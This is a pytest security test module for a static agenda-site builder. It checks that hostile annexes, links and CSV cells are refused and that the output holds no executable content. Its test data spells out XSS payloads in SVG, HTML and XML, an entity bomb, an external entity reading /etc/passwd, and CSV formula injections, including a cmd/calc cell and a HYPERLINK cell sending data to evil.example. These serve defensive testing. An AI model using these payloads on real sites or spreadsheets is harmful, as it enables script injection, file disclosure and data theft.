"""No active content on the site's origin (issue 14, point 3): hostile annex files, links and CSV cells.

Each hostile case changes one thing in the tiny site after a good build, then builds through the
command line (in process) and asserts: exit code 1, the message at the file and line with a hint, no
traceback, the previous output byte for byte as it was, and no executable content anywhere in it.
Each harmless variation builds, and its output is walked for executable content too.
"""

from __future__ import annotations

import html
import json
import re
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote, unquote

import pytest
from bs4 import BeautifulSoup

from agendasite.cli.main import main as cli_main
from agendasite.source.csvout import write_csv

from .conftest import run_build, soup, write

M = "content/2030-01-15-udvalget"
ITEM = f"{M}/1-1-forste.md"
MEETING = f"{M}/meeting.md"
FUNDING_YML = f"{M}/bilag/finansiering.yml"
PACKAGE_SCRIPTS = {"assets/search.js"}  # the project's own script
OWN_FOLDERS = ("pagefind/", "handbook/")  # the search indexer's files; the handbook, built by MkDocs from docs/
SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">'
pytestmark = pytest.mark.filterwarnings("ignore::bs4.XMLParsedAsHTMLWarning")  # the walker reads SVG/XML as HTML too
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"


def item(front: str, body: str = "## Indstilling\n\nDet indstilles, at sagen godkendes.\n") -> str:
    return f"---\nnumber: 1.1\ntitle: Første sag\n{front}---\n{body}"


def annexed(name: str) -> str:
    """The item with one file annex; the `file:` key is on line 6."""
    return item(f"annexes:\n  - title: Bilag 1\n    file: {json.dumps(name)}\n")


# --- the walker: what a browser would run, anywhere in the output -----------------------------------

_ON_ATTRIBUTE = re.compile(r"<[a-zA-Z][^>]*\son[a-z]+\s*=", re.IGNORECASE)
_ACTIVE_SCHEMES = ("javascript:", "vbscript:", "data:text", "data:application", "data:image/svg")


def _active_address(value: str) -> bool:
    cleaned = re.sub(r"[\t\n\r]", "", html.unescape(value)).strip(" \x00\x01\x02\x03\x04\x05\x06\x07\x08").lower()
    return cleaned.startswith(_ACTIVE_SCHEMES) or unquote(cleaned).startswith(("javascript:", "vbscript:"))


def _html_problems(text: str) -> list[str]:
    problems = []
    page = BeautifulSoup(text, "html.parser")
    for tag in page.find_all(True):
        for name, value in tag.attrs.items():
            if name.lower().startswith("on"):
                problems.append(f"<{tag.name} {name}=>")
            values = value if isinstance(value, list) else [value]
            if any(_active_address(v) for v in values if isinstance(v, str)):
                problems.append(f"<{tag.name} {name}={value!r}>")
        if tag.name in ("script", "iframe", "object", "embed", "foreignobject", "base"):
            if tag.name != "script" or not tag.get("src"):
                problems.append(f"<{tag.name}>")
    return problems


def executable_content(out: Path) -> list[str]:
    """Every file of the output, apart from the project's own assets, that a browser would run code from."""
    found = []
    for path in sorted(out.rglob("*")):
        rel = path.relative_to(out).as_posix()
        if not path.is_file() or rel in PACKAGE_SCRIPTS or rel.startswith(OWN_FOLDERS):
            continue
        data = path.read_bytes()
        text = data.decode("utf-8", "replace")
        head = data[:512].lstrip().lower()
        if path.suffix in (".html", ".htm", ".xhtml", ".svg", ".xml"):
            found += [f"{rel}: {problem}" for problem in _html_problems(text)]
            if path.suffix == ".xml":  # feeds carry HTML as escaped text
                found += [f"{rel}: {p}" for p in _html_problems(html.unescape(text))]
            for script in BeautifulSoup(text, "html.parser").find_all("script"):
                src = script.get("src", "")
                if not any(src.endswith(own) for own in PACKAGE_SCRIPTS | {"pagefind/pagefind-ui.js"}):
                    found.append(f"{rel}: <script src={src!r}>")
            if path.suffix in (".svg", ".xml") and (b"<script" in data.lower() or _ON_ATTRIBUTE.search(text)):
                found.append(f"{rel}: script in SVG/XML")
        elif path.suffix in (".js", ".mjs", ".swf", ".mht", ".mhtml", ".xsl", ".xslt", ".svgz", ".shtml"):
            found.append(f"{rel}: active file type")
        elif path.suffix == ".json":
            found += [f"{rel}: {s!r}" for s in re.findall(r'"([^"]*)"', text) if _active_address(s)]
        elif head.startswith((b"<html", b"<!doctype html", b"<script", b"<svg", b"<?xml", b"<body", b"<iframe")):
            found.append(f"{rel}: markup in a {path.suffix or 'extension-less'} file")
    return found


def _snapshot(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.fixture
def built(tiny_site: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, dict[str, bytes]]:
    """The tiny site built once (the previous output), the working folder at its root."""
    monkeypatch.chdir(tiny_site)
    assert run_build(Path("site_config.yml")).ok
    return tiny_site, _snapshot(tiny_site / "site")


def _put(site: Path, files: dict[str, str | bytes]) -> None:
    for rel, content in files.items():
        path = site / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")


def _cli(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    code = cli_main(["--no-cache", *args])
    captured = capsys.readouterr()
    return code, captured.out + captured.err


@dataclass(frozen=True)
class Case:
    """One hostile input: the files it writes and the message the build must give at its place."""

    id: str
    files: dict[str, str | bytes]
    path: str
    line: int
    message: str
    strict: bool = False  # a warning: refused with --strict


def _refused(case: Case, built, capsys) -> str:
    site, before = built
    _put(site, case.files)
    code, out = _cli(capsys, *(["--strict"] if case.strict else []))
    assert code == 1, out
    assert "Traceback" not in out and "internal error" not in out, out
    lines = [line for line in out.splitlines() if line.startswith(f"{case.path}:{case.line}:")]
    assert any(case.message in line for line in lines), f"expected {case.path}:{case.line}: {case.message}\n{out}"
    at = out.index(next(line for line in lines if case.message in line))
    assert "hint:" in out[at:].split("\n\n")[0] or "hint:" in "\n".join(out[at:].splitlines()[:4]), out
    assert _snapshot(site / "site") == before
    assert executable_content(site / "site") == []
    return out


# --- annex files a browser runs -----------------------------------------------------------------

def _svg(body: str, attrs: str = "") -> str:
    return SVG_OPEN.replace(">", f" {attrs}>", 1) + body + "</svg>" if attrs else SVG_OPEN + body + "</svg>"


def _annex_case(id: str, name: str, content: str | bytes, message: str) -> Case:
    return Case(id, {ITEM: annexed(f"bilag/{name}"), f"{M}/bilag/{name}": content}, ITEM, 6, message)


SVG_ACTIVE = "is an SVG drawing with active content a browser would run on the site"
ANNEX_FILE_CASES = [
    _annex_case("svg-onload", "tegning.svg", _svg("", 'onload="alert(1)"'), "the event attribute 'onload'"),
    _annex_case("svg-onload-mixed-case", "tegning.svg", _svg('<rect onMouseOver="alert(1)"/>'),
                "the event attribute 'onMouseOver'"),
    _annex_case("svg-script", "tegning.svg", _svg("<script>alert(1)</script>"), "a <script> element"),
    _annex_case("svg-script-cdata", "tegning.svg", _svg("<script><![CDATA[alert(1)]]></script>"), SVG_ACTIVE),
    _annex_case("svg-foreign-object", "tegning.svg",
                _svg('<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>'),
                "a <foreignObject> element"),
    _annex_case("svg-html-script", "tegning.svg",
                _svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
                "an HTML element <script>"),
    _annex_case("svg-xlink-javascript", "tegning.svg",
                _svg('<a xlink:href="javascript:alert(1)"><text>x</text></a>'), "a link to 'javascript:alert(1)'"),
    _annex_case("svg-href-javascript-tabs", "tegning.svg",
                _svg('<a href="java&#9;script:alert(1)"><text>x</text></a>'), "a link to 'java\tscript"),
    _annex_case("svg-use-external", "tegning.svg", _svg('<use href="https://evil.example/x.svg#a"/>'),
                "a link to 'https://evil.example/x.svg#a'"),
    _annex_case("svg-image-svg-data", "tegning.svg", _svg('<image href="data:image/svg+xml;base64,PHN2Zz4="/>'),
                "a link to 'data:image/svg+xml"),
    _annex_case("svg-css-url-javascript", "tegning.svg", _svg("<style>rect{fill:url(javascript:alert(1))}</style>"),
                "'javascript:' in CSS"),
    _annex_case("svg-css-import", "tegning.svg", _svg("<style>@import 'https://evil.example/x.css';</style>"),
                "'@import' in CSS"),
    _annex_case("svg-css-escape", "tegning.svg", _svg("<style>rect{fill:\\75rl(https://evil.example/)}</style>"),
                "'\\' in CSS"),
    _annex_case("svg-style-attribute-url", "tegning.svg", _svg('<rect style="fill:url(https://evil.example/a)"/>'),
                "a CSS url() to 'https://evil.example/a'"),
    _annex_case("svg-animate-href", "tegning.svg",
                _svg('<a><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'), "a <set> element"),
    _annex_case("svg-entity-bomb", "tegning.svg",
                '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'
                '<!ENTITY c "&b;&b;&b;&b;&b;&b;">]>' + _svg("<text>&c;</text>"),
                "a DOCTYPE with its own declarations (entities)"),
    _annex_case("svg-external-entity", "tegning.svg",
                '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + _svg("<text>&x;</text>"),
                "a DOCTYPE with its own declarations"),
    _annex_case("svg-stylesheet-pi", "tegning.svg",
                '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="x.xsl"?>' + _svg(""),
                "an xml-stylesheet instruction"),
    _annex_case("svg-xml-base", "tegning.svg", _svg('<a xml:base="javascript:alert(1)//" href="#x"><text>x</text></a>'),
                "an xml:base address"),
    _annex_case("svg-upper-case-extension", "TEGNING.SVG", _svg("<script>alert(1)</script>"), "a <script> element"),
    _annex_case("svg-not-well-formed", "tegning.svg", "<svg><script>alert(1)</svg>", "it is not well-formed XML"),
    _annex_case("svgz", "tegning.svgz", b"\x1f\x8b\x08\x00", "is a compressed SVG drawing"),
    _annex_case("html", "side.html", "<html><script>alert(1)</script></html>", "is an HTML web page"),
    _annex_case("htm", "side.htm", "<p>x</p>", "is an HTML web page"),
    _annex_case("xhtml", "side.xhtml", '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
                "is an HTML web page"),
    _annex_case("shtml", "side.shtml", "<p>x</p>", "is an HTML web page"),
    _annex_case("mhtml", "side.mhtml", "MIME-Version: 1.0\n", "is a saved web page (MHTML)"),
    _annex_case("javascript", "program.js", "alert(1)\n", "is a JavaScript program"),
    _annex_case("javascript-module", "program.mjs", "alert(1)\n", "is a JavaScript program"),
    _annex_case("flash", "film.swf", b"FWS\x09", "is a Flash program"),
    _annex_case("xslt", "stil.xsl", '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>',
                "is an XSLT style sheet"),
    _annex_case("xml-with-stylesheet", "data.xml", '<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><doc/>',
                "an xml-stylesheet instruction"),
    _annex_case("xml-with-html-script", "data.xml",
                '<doc><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></doc>',
                "an HTML element <script>"),
    _annex_case("xml-with-svg-script", "data.xml",
                '<doc><s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script></doc>', "a <script> element"),
    _annex_case("xml-xlink-javascript", "data.xml",
                '<doc xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type="simple" xlink:href="javascript:x"/>',
                "a link to 'javascript:x'"),
    # served as text/mathml (nginx) or application/*+xml (Apache): a browser renders them as XML documents
    _annex_case("mathml-with-html-script", "formel.mml",
                '<math xmlns="http://www.w3.org/1998/Math/MathML"><h:script xmlns:h="http://www.w3.org/1999/xhtml">'
                'alert(1)</h:script></math>', "an HTML element <script>"),
    _annex_case("xul-with-html-script", "vindue.xul",
                '<window><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></window>',
                "an HTML element <script>"),
    _annex_case("smil-with-svg-script", "show.smil",
                '<smil><s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script></smil>', "a <script> element"),
    # an editor's own CSV is copied as it is: a formula cell in it is refused, with the CSV's line
    _annex_case("csv-file-with-hyperlink-formula", "tal.csv", 'a;b\n1;2\n=HYPERLINK("https://evil.example/");3\n',
                "has at its line 3 the cell '=HYPERLINK(\"https://evil.example/\")', which a spreadsheet"),
    _annex_case("csv-file-comma-separated-at", "tal.csv", "a,b\n-5,@SUM(A1)\n", "has at its line 2 the cell '@SUM(A1)'"),
    _annex_case("tsv-file-with-plus-formula", "tal.tsv", "a\tb\n+cmd|' /C calc'!A0\t1\n", "has at its line 2 the cell '+cmd"),
    _annex_case("png-holding-html", "foto.png", "<html><body><script>alert(1)</script>", "is named '.png' but holds HTML"),
    _annex_case("pdf-holding-html", "notat.pdf", "\n  <!DOCTYPE html><script>alert(1)</script>",
                "is named '.pdf' but holds HTML"),
    _annex_case("jpg-holding-svg-with-bom", "foto.jpg", "\ufeff" + _svg("<script>alert(1)</script>"),
                "is named '.jpg' but holds SVG"),
    _annex_case("txt-holding-xml", "notat.txt", '<?xml version="1.0"?><doc/>', "is named '.txt' but holds XML"),
    _annex_case("no-extension-holding-html", "notat", "<script>alert(1)</script>", "is without an extension but holds HTML"),
    _annex_case("png-holding-html-comment", "foto.png", "<!-- x --><script>alert(1)</script>", "holds HTML"),
]


@pytest.mark.parametrize("case", ANNEX_FILE_CASES, ids=[c.id for c in ANNEX_FILE_CASES])
def test_an_annex_file_a_browser_would_run_is_refused_at_its_line(case: Case, built, capsys):
    out = _refused(case, built, capsys)
    assert "convert it to PDF" in out


HARMLESS_FILES = {
    "plain.svg": _svg('<defs><linearGradient id="g"><stop offset="0" stop-color="#f00"/></linearGradient></defs>'
                      '<rect width="5" height="5" fill="url(#g)" style="stroke: url(#g)"/><use href="#g"/>'
                      '<image href="data:image/png;base64,iVBORw0KGgo="/><style>rect{fill:url(#g)}</style>'),
    "inkscape.svg": '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
                    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
                    + SVG_OPEN.replace(">", ' xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape">', 1)
                    + '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata>'
                      '<g inkscape:label="Lag 1"><circle r="2"/></g></svg>',
    "data.xml": '<?xml version="1.0"?><kommuner><kommune navn="Alby" indbyggere="1000"/></kommuner>',
    "foto.png": PNG,
    "notat.pdf": b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n",
    "notat.txt": "Et notat, der nævner <script> midt i teksten.\n",
    "tal.csv": "Kommune;Ændring;Note\nAlby;-12,5;-\nBorup;+3;'=ikke en formel\n",
}


def test_inert_svg_xml_and_other_files_are_copied_byte_for_byte(built):
    site, _ = built
    names = list(HARMLESS_FILES)
    front = "annexes:\n" + "".join(f"  - title: Bilag {i}\n    file: bilag/{n}\n" for i, n in enumerate(names))
    _put(site, {ITEM: item(front), **{f"{M}/bilag/{n}": c for n, c in HARMLESS_FILES.items()}})
    result = run_build(Path("site_config.yml"), strict=True)
    assert result.ok, result.diagnostics.sorted()
    for name, content in HARMLESS_FILES.items():
        published = (site / "site/2030-01-15-udvalget/bilag" / name).read_bytes()
        assert published == (content if isinstance(content, bytes) else content.encode())
    assert executable_content(site / "site") == []


# --- addresses written into attributes ----------------------------------------------------------

def _body_case(id: str, body: str, line: int, message: str, strict: bool = False) -> Case:
    """A hostile body in the item (its body starts on line 5)."""
    return Case(id, {ITEM: item("", body)}, ITEM, line, message, strict)


INTERNAL = "'agendasite:' is the build's own form for links between pages"
LINK_CASES = [
    _body_case("internal-link-quote-onmouseover", "Se [a](agendasite:%22onmouseover=alert(1)%20x=%22).\n", 5, INTERNAL),
    _body_case("internal-image-quote-onerror", "![b](agendasite:%22onerror=alert(2)%20x=%22)\n", 5, INTERNAL),
    _body_case("internal-link-raw-quote", 'Se [a](<agendasite:x" onmouseover="alert(1)>).\n', 5, INTERNAL),
    _body_case("internal-link-spaces", "Se [a](<agendasite:a b c>).\n", 5, INTERNAL),
    _body_case("internal-link-angle-brackets", "Se [a](agendasite:%3Cscript%3E).\n", 5, INTERNAL),
    _body_case("internal-link-javascript", "Se [c](agendasite:2030-01-15-udvalget/javascript:alert(3)).\n", 5,
               INTERNAL),
    _body_case("internal-link-data", "Se [c](agendasite:data:text/html,x).\n", 5, INTERNAL),
    _body_case("internal-link-vbscript", "Se [c](agendasite:vbscript:x).\n", 5, INTERNAL),
    _body_case("internal-link-upper-case", "Tekst.\n\nSe [c](AgendaSite:JaVaScRiPt:alert(1)).\n", 7, INTERNAL),
    # a tab or line break inside a Markdown link is percent-encoded (agenda%09site:x): no scheme, a local link
    _body_case("internal-link-tab-in-scheme", "Se [c](agenda&#9;site:x).\n", 5, "does not point to a page"),
    _body_case("internal-link-newline-in-scheme", "Se [c](agenda&#10;site:x).\n", 5, "does not point to a page"),
    _body_case("internal-autolink", "Se <agendasite:%22onmouseover=alert(1)>.\n", 5, INTERNAL),
    _body_case("internal-link-in-second-line", "Første linje\nog [c](agendasite:x) her.\n", 6, INTERNAL),
    _body_case("internal-link-in-table-cell", "| a | b |\n|---|---:|\n| [x](agendasite:%22onclick=y) | 1 |\n", 7,
               INTERNAL),
    _body_case("javascript-tab-in-scheme", "Se [c](<JaVa\tScRiPt:alert(1)>) og [d](java&#9;script:alert(1)).\n", 5,
               "the link 'JaVa%09ScRiPt:alert(1)' does not point to a page"),
    _body_case("ftp-link", "Se [c](ftp://example.org/fil).\n", 5, "the address scheme 'ftp:' is not allowed"),
    _body_case("blob-autolink", "Se <blob:https://example.org/x>.\n", 5, "the address scheme 'blob:' is not allowed"),
    _body_case("websocket-image", "![x](WS://example.org/x)\n", 5, "the address scheme 'ws:' is not allowed"),
    _body_case("data-image", "![x](data:image/png;base64,iVBORw0KGgo=)\n", 5, "the address scheme 'data:' is not allowed"),
    _body_case("intent-link", "Se [x](intent://x#Intent;scheme=javascript;end).\n", 5,
               "the address scheme 'intent:' is not allowed"),
    _body_case("raw-html-internal-onclick", 'Se <a href="agendasite:%22onclick=alert(4)%20x=%22">d</a>.\n', 5,
               "raw HTML removed: the 'agendasite:' address of <a>", strict=True),
    _body_case("raw-html-javascript-entities", 'Se <a href="jav&#x09;ascript:alert(1)">d</a>.\n', 5,
               "raw HTML removed: the 'javascript:' address of <a>", strict=True),
    _body_case("raw-html-vbscript-image", '<img src="VBScript:msgbox(1)" alt="x">\n', 5,
               "raw HTML removed: the 'vbscript:' address of <img>", strict=True),
    Case("meeting-body-internal-link", {MEETING: "---\nbody: Udvalget\ndate: 2030-01-15\nsections:\n"
                                        "  - number: 1\n    title: Sager\n---\nSe [x](agendasite:%22onerror=y).\n"},
         MEETING, 8, INTERNAL),
    Case("meeting-note-internal-link", {MEETING: "---\nbody: Udvalget\ndate: 2030-01-15\nnotes:\n"
                                        "  - Se [x](agendasite:javascript:alert(1))\nsections:\n"
                                        "  - number: 1\n    title: Sager\n---\nVelkommen.\n"},
         MEETING, 5, INTERNAL),
]


@pytest.mark.parametrize("case", LINK_CASES, ids=[c.id for c in LINK_CASES])
def test_a_link_that_could_run_script_is_refused_at_its_line(case: Case, built, capsys):
    _refused(case, built, capsys)


def test_links_that_are_allowed_are_encoded_and_run_nothing(built):
    site, _ = built
    body = ('Se [ekstern](<https://example.org/a b"c>), [post](mailto:a@example.org), [tlf](tel:+4512345678), '
            "[her](#indstilling), [dansk](https://example.org/rådhus) og <https://example.org/x?a=1&b=2>.\n\n"
            '<a href="https://example.org/q&quot;onmouseover=x">rå</a>\n\n## Indstilling\n\nTekst.\n')
    _put(site, {ITEM: item("annexes:\n  - title: Ude\n    url: https://example.org/a\"b<c>\n", body)})
    result = run_build(Path("site_config.yml"), strict=True)
    assert result.ok, result.diagnostics.sorted()
    main = soup(site / "site/2030-01-15-udvalget/1-1-forste/index.html").find("main")
    hrefs = {a.get_text(): a["href"] for a in main.find_all("a")}
    assert hrefs["ekstern"] == "https://example.org/a%20b%22c"
    assert hrefs["post"] == "mailto:a@example.org" and hrefs["tlf"] == "tel:+4512345678"
    assert hrefs["her"] == "#indstilling" and hrefs["dansk"] == "https://example.org/r%C3%A5dhus"
    assert hrefs["https://example.org/x?a=1&b=2"] == "https://example.org/x?a=1&b=2"
    assert hrefs["rå"] == "https://example.org/q%22onmouseover=x"
    assert hrefs["Ude"] == "https://example.org/a%22b%3Cc%3E"
    assert executable_content(site / "site") == []


def test_a_template_cannot_write_a_javascript_address(built):
    site, _ = built
    write(site, "templates/404.html", '{% extends "!default/404.html" %}{% block main %}'
          "<a href=\"{{ url('javascript:alert(1)') }}\">x</a><a href=\"{{ url('ja\tvascript:x') }}\">y</a>"
          "<a href=\"{{ url('2030-01-15-udvalget/\" onclick=\"x') }}\">z</a>{% endblock %}")
    result = run_build(Path("site_config.yml"))
    assert result.ok, result.diagnostics.sorted()
    page = soup(site / "site/404.html")
    assert [a["href"] for a in page.find_all("a") if a.get_text() in "xyz"] == \
        ["#", "#", "/test/2030-01-15-udvalget/%22%20onclick=%22x"]
    assert executable_content(site / "site") == []


# --- annex file names ---------------------------------------------------------------------------

@pytest.mark.parametrize("name, encoded", [
    ("notat med mellemrum.pdf", "notat%20med%20mellemrum.pdf"),
    ("a<b>c.pdf", "a%3Cb%3Ec.pdf"),
    ("punkt#3.pdf", "punkt%233.pdf"),
    ("100%.pdf", "100%25.pdf"),
    ("hvad?.pdf", "hvad%3F.pdf"),
    ("rådhus æøå.pdf", "r%C3%A5dhus%20%C3%A6%C3%B8%C3%A5.pdf"),
    ('"citat" & \'x\'.pdf', "%22citat%22%20%26%20%27x%27.pdf"),
])
def test_annex_file_names_are_percent_encoded_in_links(name: str, encoded: str, built):
    site, _ = built
    _put(site, {ITEM: annexed(f"bilag/{name}") + f"\nSe [filen](bilag/{quote(name)}).\n",
                f"{M}/bilag/{name}": b"%PDF-1.4\n"})
    result = run_build(Path("site_config.yml"), strict=True)
    assert result.ok, result.diagnostics.sorted()
    page = soup(site / "site/2030-01-15-udvalget/1-1-forste/index.html")
    links = [a["href"] for a in page.find("main").find_all("a") if a.get_text() in ("Bilag 1", "filen")]
    assert links and set(links) == {f"../bilag/{encoded}"}
    target = site / "site/2030-01-15-udvalget/1-1-forste" / unquote(links[0])
    assert target.resolve().read_bytes() == b"%PDF-1.4\n"  # the link leads to the published file
    assert executable_content(site / "site") == []


@pytest.mark.parametrize("written, on_disk", [
    ("bilag/linje\nskift.pdf", "linje\nskift.pdf"),
    ("bilag/tab\tulator.pdf", "tab\tulator.pdf"),
    ("bilag/nul\u0000.pdf", None),
    ("bilag/escape\u001b[31m.pdf", "escape\u001b[31m.pdf"),
    ("bilag/delete\u007f.pdf", "delete\u007f.pdf"),
])
def test_an_annex_name_with_a_control_character_is_an_error(written: str, on_disk: str | None, built, capsys):
    files: dict[str, str | bytes] = {ITEM: annexed(written)}
    if on_disk is not None:
        files[f"{M}/bilag/{on_disk}"] = b"%PDF-1.4\n"
    _refused(Case("control", files, ITEM, 6, "holds a control character"), built, capsys)


# --- CSV cells a spreadsheet would run ----------------------------------------------------------

def test_table_csv_cells_that_are_formulas_are_neutralised_and_numbers_stay(built):
    site, _ = built
    body = ("Tabel: Tal\n\n| Navn | Note | Beløb |\n|---|---|---:|\n"
            '| =HYPERLINK("http://evil.example/?x="&A1;"klik") | -5 | -2 |\n'
            "| @SUM(A1:A9) | +45 | 3,5 |\n| +cmd | -2+3 | -1.234,5 |\n| -cmd | - | 4 |\n"
            "| I alt | | =sum |\n")
    _put(site, {ITEM: item("", body)})
    result = run_build(Path("site_config.yml"))
    assert result.ok, result.diagnostics.sorted()
    csv = (site / "site/2030-01-15-udvalget/1-1-forste/tabel-1.csv").read_text(encoding="utf-8").splitlines()
    assert csv == [
        "Navn;Note;Beløb",
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1;""klik"")";-5;-2',
        "\"'@SUM(A1:A9)\";45;3,5",
        "\"'+cmd\";\"'-2+3\";-1234,5",
        "\"'-cmd\";-;4",
        "I alt;;-1229,0",
    ]


def test_funding_csv_neutralises_a_payer_named_as_a_formula(built):
    site, _ = built
    _put(site, {
        "content/data/folketal.csv": "kommune;indbyggere\n=cmd|' /C calc'!A0;1.000\n@Borup;3.000\n",
        "content/data/folketal.yml": "title: Indbyggere\nsource: Testkilde\ndate: \"2030\"\n"
                                     "columns: {key: kommune, value: indbyggere}\n",
        f"{M}/1-3-finansiering.md": "---\nnumber: 1.3\ntitle: Finansiering\nannexes:\n  - title: Bilag\n"
                                    "    funding: bilag/finansiering.yml\n---\nTekst.\n",
        FUNDING_YML: "title: Finansiering\ntotal: 100.000\nperiod: per year\nkey:\n  type: population\n"
                     "  data: folketal\n",
    })
    result = run_build(Path("site_config.yml"))
    assert result.ok, result.diagnostics.sorted()
    rows = (site / "site/2030-01-15-udvalget/bilag/finansiering/tabel-1.csv").read_text(encoding="utf-8")
    cells = [line.split(";")[0] for line in rows.splitlines()[1:]]
    assert cells[:2] == ["\"'=cmd|' /C calc'!A0\"", "\"'@Borup\""], rows
    assert not [c for c in cells if c.startswith(("=", "@", "+"))]


@pytest.mark.parametrize("cell, written", [
    ("=1+2", "\"'=1+2\""), ("+1+2", "\"'+1+2\""), ("-1+2", "\"'-1+2\""), ("@x", "\"'@x\""),
    ("\tx", "\"'\tx\""), ("\rx", "\"'\rx\""), ("-12,5", "-12,5"), ("+3", "+3"), ("-4 %", "-4 %"), ("-", "-"),
    ("1.234,5", "1.234,5"), ("-0,5", "-0,5"), ("-1e5", "\"'-1e5\""), ("a;b", '"a;b"'), ('x"y', '"x""y"'), ("", ""),
])
def test_the_csv_writer_quotes_and_neutralises_each_cell(cell: str, written: str):
    assert write_csv([[cell, "1"]]) == f"{written};1\n".encode()


# --- raw HTML in a funding annex's texts --------------------------------------------------------

FUNDING_BASE = "title: Finansiering\ntotal: 100.000\nperiod: per year\nkey:\n  type: population\n  data: folketal\n"


def _funding_files(extra: str) -> dict[str, str | bytes]:
    return {
        "content/data/folketal.csv": "kommune;indbyggere\nAlby;1.000\nBorup;3.000\n",
        "content/data/folketal.yml": "title: Indbyggere\nsource: Testkilde\ndate: \"2030\"\n"
                                     "columns: {key: kommune, value: indbyggere}\n",
        f"{M}/1-3-finansiering.md": "---\nnumber: 1.3\ntitle: Finansiering\nannexes:\n  - title: Bilag\n"
                                    "    funding: bilag/finansiering.yml\n---\nTekst.\n",
        FUNDING_YML: FUNDING_BASE + extra,
    }


FUNDING_CASES = [
    Case("funding-intro-script", _funding_files("intro: Se <script>alert(1)</script> her\n"), FUNDING_YML, 7,
         "raw HTML removed: <script> element and its content", strict=True),
    Case("funding-intro-block-onclick", _funding_files("intro: |\n  Første linje\n  <b onclick=\"x()\">fed</b>\n"),
         FUNDING_YML, 7, "raw HTML removed: the attribute 'onclick' of <b>", strict=True),
    Case("funding-notes-javascript", _funding_files("notes: 'Se <a href=\"javascript:alert(1)\">her</a>'\n"),
         FUNDING_YML, 7, "raw HTML removed: the 'javascript:' address of <a>", strict=True),
    Case("funding-notes-iframe", _funding_files("notes: |\n  <iframe src=\"https://evil.example/\"></iframe>\n"),
         FUNDING_YML, 7, "raw HTML removed: <iframe> tag", strict=True),
    Case("funding-intro-internal-link", _funding_files("intro: Se [x](agendasite:%22onerror=alert(1)%20x=%22)\n"),
         FUNDING_YML, 7, INTERNAL),
    Case("funding-notes-ftp-link", _funding_files("caption: Fordeling\nnotes: Se <ftp://example.org/x>\n"),
         FUNDING_YML, 8, "the address scheme 'ftp:' is not allowed"),
]


@pytest.mark.parametrize("case", FUNDING_CASES, ids=[c.id for c in FUNDING_CASES])
def test_raw_html_and_links_in_funding_texts_are_reported_at_their_key(case: Case, built, capsys):
    _refused(case, built, capsys)


def test_funding_text_warnings_do_not_stop_a_normal_build(built):
    site, _ = built
    _put(site, _funding_files("intro: Se <script>alert(1)</script> her\n"))
    result = run_build(Path("site_config.yml"))
    assert result.ok
    assert [(d.path, d.line, d.severity) for d in result.diagnostics.items if "raw HTML" in d.message] == \
        [(FUNDING_YML, 7, "warning")]
    page = (site / "site/2030-01-15-udvalget/bilag/finansiering/index.html").read_text(encoding="utf-8")
    assert "alert(1)" not in page and "<script>" not in page.split("<main", 1)[1]
    assert executable_content(site / "site") == []


# --- the walker itself, and the old leaks -------------------------------------------------------

def test_the_walker_finds_what_the_old_build_published(tmp_path: Path):
    write(tmp_path, "a/index.html", '<p><a href="../"onmouseover=alert(1) x="">a</a></p>')
    write(tmp_path, "b/index.html", '<p><a href="javascript:alert(3)">c</a><img src="x" onerror="y"></p>')
    write(tmp_path, "c/bilag/x.svg", _svg("", 'onload="alert(5)"'))
    write(tmp_path, "c/bilag/x.html", "<html><script>alert(7)</script></html>")
    write(tmp_path, "c/bilag/x.png", "<html><script>alert(7)</script></html>")
    write(tmp_path, "feed.xml", "<feed><content type=\"html\">&lt;a href=\"JaVa&#9;script:x\"&gt;</content></feed>")
    write(tmp_path, "assets/search.js", "window.x = 1;\n")
    found = executable_content(tmp_path)
    assert {f.split(":")[0] for f in found} == {"a/index.html", "b/index.html", "c/bilag/x.svg", "c/bilag/x.html",
                                                "c/bilag/x.png", "feed.xml"}, found


def test_the_embedded_site_has_no_executable_content(built_site: Path):
    assert executable_content(built_site) == []
